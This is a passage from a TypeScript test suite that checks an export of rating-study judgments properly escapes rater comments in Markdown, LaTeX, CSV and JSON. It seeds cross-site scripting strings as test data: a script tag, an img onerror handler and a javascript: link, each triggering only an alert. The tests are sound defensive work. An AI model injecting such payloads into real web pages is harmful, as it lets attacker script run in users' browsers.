	const PIPES = 'left | right\nsecond line';
	let hostile: Seeded;
	beforeAll(async () => {
		hostile = await ratedStudy((rater, prompt, model, stage) => {
			if (model !== 'cand-b' || prompt !== 'q2') return '';
			if (rater === 'senior') return stage === 'independent' ? `blind ${SCRIPT}` : `final ${IMG}`;
			return rater === 'junior1' ? PIPES : '';
		});
	});

	it("keeps the senior's step-1 comment on the independent rows and the final one on the final rows", async () => {
		const rows = csv(await run(hostile, 'judgments', 'csv')).filter((r) => r.role === 'senior');
		expect(rows.length).toBeGreaterThan(0);
		const byStage = (stage: string) =>
			new Set(
				rows
					.filter((r) => r.stage === stage && r.prompt === 'q2' && r.model === 'cand-b')
					.map((r) => r.comment)
			);
		expect(byStage('independent')).toEqual(new Set([`blind ${SCRIPT}`]));
		expect(byStage('final')).toEqual(new Set([`final ${IMG}`]));
		const json = JSON.parse(await run(hostile, 'judgments', 'json')).judgments as {
			stage: string;
			comment: string;
		}[];
		expect(new Set(json.filter((j) => j.stage === 'independent').map((j) => j.comment))).toEqual(
			new Set(['', `blind ${SCRIPT}`])
		);
		const md = await run(hostile, 'judgments', 'md');
		expect(md).toContain('| independent |');
		expect(md).toContain('blind &lt;script&gt;alert(1)&lt;/script&gt;');
		const latex = await run(hostile, 'judgments', 'latex');
		expect(latex).toContain(
			'blind \\textless{}script\\textgreater{}alert(1)\\textless{}/script\\textgreater{}'
		);
	});

	it('Markdown escapes raw HTML, links, pipes and newlines in comments', async () => {
		const md = await run(hostile, 'judgments', 'md');
		expect(md).not.toMatch(/<script|<img|[^\\]\]\(javascript/i);
		expect(md).toContain(
			'final &lt;img src=x onerror="alert(2)"&gt; &amp; \\[click\\](javascript:alert(3))'
		);
		expect(md).toContain('left \\| right second line');
		// Every table line has exactly as many unescaped pipes as the header.
		const lines = md.split('\n').filter((l) => l.startsWith('|'));
		const pipes = (l: string) => l.replace(/\\\\/g, '').replace(/\\\|/g, '').split('|').length;
		expect(new Set(lines.map(pipes))).toEqual(new Set([pipes(lines[0])]));
		expect(lines).toHaveLength(2 + 64);
	});

	it('LaTeX escapes <, >, |, & and newlines; CSV keeps the text exactly, quoted', async () => {
		const latex = await run(hostile, 'judgments', 'latex');
		const body = latex.split('\n').filter((l) => l.startsWith('1 & q'));
		expect(body).toHaveLength(64);
		for (const line of body) expect(line).not.toMatch(/[<>|]|[^\\]&(?! )/);
		expect(latex).toContain('left \\textbar{} right second line');
		expect(latex).toContain('\\textgreater{} \\& [click](javascript:alert(3))');
		const rows = csv(await run(hostile, 'judgments', 'csv'));
		expect(new Set(rows.map((r) => r.comment))).toEqual(
			new Set(['', PIPES, `blind ${SCRIPT}`, `final ${IMG}`])
		);
	});
});
